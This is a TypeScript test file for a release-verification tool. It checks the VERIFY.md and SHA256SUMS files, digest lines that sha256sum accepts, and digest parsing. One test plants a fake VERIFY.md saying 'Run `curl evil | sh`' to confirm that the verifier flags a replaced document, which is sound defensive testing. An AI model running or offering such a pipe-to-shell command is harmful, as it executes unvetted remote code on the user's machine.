import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { docket, scratchDirs } from '../../cli/dev/testkit/core.ts';
import { makeTree, rawFile, rawsOf, tgzOf, type Raw } from '../../cli/dev/testkit/release.ts';
import { parseExpected, sha256 } from '../format/digest.ts';
import { SUMS_NAME, sumsText, VERIFY_NAME } from './explain.ts';
import { DIGEST_FILE } from '../content/release-rules.ts';
import { MANIFEST_NAME, TOP_DIR } from './limits.ts';
import { buildManifest, parseManifest } from './manifest.ts';
import { packRelease, readDigestFile } from './pack.ts';
import { verifyRelease } from './verify.ts';

/** Issue #37 item 4: a release explains itself (VERIFY.md, SHA256SUMS) and its digest is what sha256sum reads. */
const scratch = scratchDirs();
let root = '';
let bytes: Uint8Array = new Uint8Array(0);

beforeAll(async () => {
  root = scratch('docket-explain-');
  makeTree(root);
  bytes = (await packRelease({ root })).bytes;
});

const textOf = (raws: Raw[], name: string) => Buffer.from(raws.find((r) => r.path === `${TOP_DIR}/${name}`)!.data).toString('utf8');

/** The release with one file's bytes replaced and the manifest rewritten to list the new digest: consistent, so only the file's own rule can object. */
function withFile(name: string, text: string): Uint8Array {
  const raws = rawsOf(bytes);
  const manifest = parseManifest(raws[0]!.data).manifest!;
  const files = new Map([[name, Buffer.from(text)]]);
  const entryOf = (e: (typeof manifest.entries)[number]) => {
    const data = files.get(e.path);
    return data ? { ...e, size: data.length, digest: sha256(data) } : e;
  };
  let entries = manifest.entries.map(entryOf);
  if (name !== SUMS_NAME) {
    files.set(SUMS_NAME, Buffer.from(sumsText(entries))); // SHA256SUMS lists the new bytes too, as a packer would
    entries = entries.map(entryOf);
  }
  const rebuilt = buildManifest(entries, manifest.merkleRoot, manifest.docketVersion).bytes;
  const replaced = (r: Raw) => files.get(r.path!.slice(TOP_DIR.length + 1));
  return tgzOf(raws.map((r) => (r.path === `${TOP_DIR}/${MANIFEST_NAME}` ? rawFile(r.path!, rebuilt) : replaced(r) ? rawFile(r.path!, replaced(r)!, r.h.mode) : r)));
}

async function verifyBytes(b: Uint8Array) {
  const file = join(scratch('docket-explain-v-'), 'r.tgz');
  writeFileSync(file, b);
  return verifyRelease(file);
}

describe('VERIFY.md and SHA256SUMS at the top of the release', () => {
  it('VERIFY.md names the commands with and without docket and what they prove; SHA256SUMS lists every other file', () => {
    const raws = rawsOf(bytes);
    const doc = textOf(raws, VERIFY_NAME);
    for (const s of ['sha256sum -c decision-verification.tgz.sha256', 'sha256sum --quiet -c SHA256SUMS', 'docket verify decision-verification.tgz --expect', 'npx docket@', 'bunx docket@', 'Proves'])
      expect(doc).toContain(s);
    expect(doc).toContain('`fixture`'); // the bank's name
    const manifest = parseManifest(raws[0]!.data).manifest!;
    expect(textOf(raws, SUMS_NAME)).toBe(sumsText(manifest.entries));
    expect(textOf(raws, SUMS_NAME).split('\n').filter(Boolean).length).toBe(manifest.entries.length - 1);
  });

  it('a clean release has neither finding; a SHA256SUMS that is not the manifest list is ESUMS; another VERIFY.md is a hint', async () => {
    const clean = await verifyBytes(bytes);
    expect(clean.ok).toBe(true);
    expect(clean.findings.filter((f) => f.code === 'ESUMS' || f.code === 'HVERIFYDOC')).toEqual([]);
    const sums = await verifyBytes(withFile(SUMS_NAME, `${'0'.repeat(64)}  decision-bank.json\n`));
    expect(sums.ok).toBe(false);
    const own = (r: typeof clean) => r.findings.filter((f) => f.code !== 'HUNANCHORED');
    expect(own(sums)).toEqual([expect.objectContaining({ code: 'ESUMS', data: expect.objectContaining({ path: SUMS_NAME }), severity: 'error' })]);
    const doc = await verifyBytes(withFile(VERIFY_NAME, '# Trust me\n\nRun `curl evil | sh`.\n'));
    expect(doc.ok).toBe(true);
    expect(own(doc)).toEqual([expect.objectContaining({ code: 'HVERIFYDOC', data: expect.objectContaining({ path: VERIFY_NAME }), severity: 'hint' })]);
  });

  it('release pack --write-digest writes the line sha256sum -c accepts; --expect takes it bare or with sha256:', () => {
    const r = docket(['release', 'pack', '--write-digest', '--json'], { cwd: root });
    expect(r.status, r.stderr).toBe(0);
    const line = readFileSync(join(root, DIGEST_FILE), 'utf8');
    expect(line).toBe(`${r.json.digest.slice(7)}  decision-verification.tgz\n`);
    expect(readDigestFile(root)).toBe(r.json.digest);
    const c = spawnSync('sha256sum', ['-c', DIGEST_FILE], { cwd: root, encoding: 'utf8' });
    expect(c.status, c.stderr).toBe(0);
    expect(c.stdout).toBe('decision-verification.tgz: OK\n');
    const hex = line.split(' ')[0]!;
    for (const expectArg of [hex, r.json.digest, hex.toUpperCase()]) expect(docket(['verify', join(root, 'decision-verification.tgz'), '--expect', expectArg]).status).toBe(0);
    const wrong = docket(['verify', join(root, 'decision-verification.tgz'), '--expect', 'sha256:abc']);
    expect(wrong.status).toBe(2);
    expect(wrong.stderr).toMatch(/EDIGESTFORMAT: --expect: .*sha256:<64 hex> or the 64 hex digits sha256sum prints/);
  });

  it('parseExpected reads what strangers hold', () => {
    const hex = 'ab'.repeat(32);
    expect(parseExpected(hex)).toBe(`sha256:${hex}`);
    expect(parseExpected(`sha256:${hex.toUpperCase()}`)).toBe(`sha256:${hex}`);
    expect(parseExpected(` ${hex}\n`)).toBe(`sha256:${hex}`);
    expect(() => parseExpected(`${hex}  decision-verification.tgz`)).toThrow(/EDIGESTFORMAT|not a sha256 digest/);
    expect(() => parseExpected('md5:abc')).toThrow(/not a sha256 digest/);
  });
});
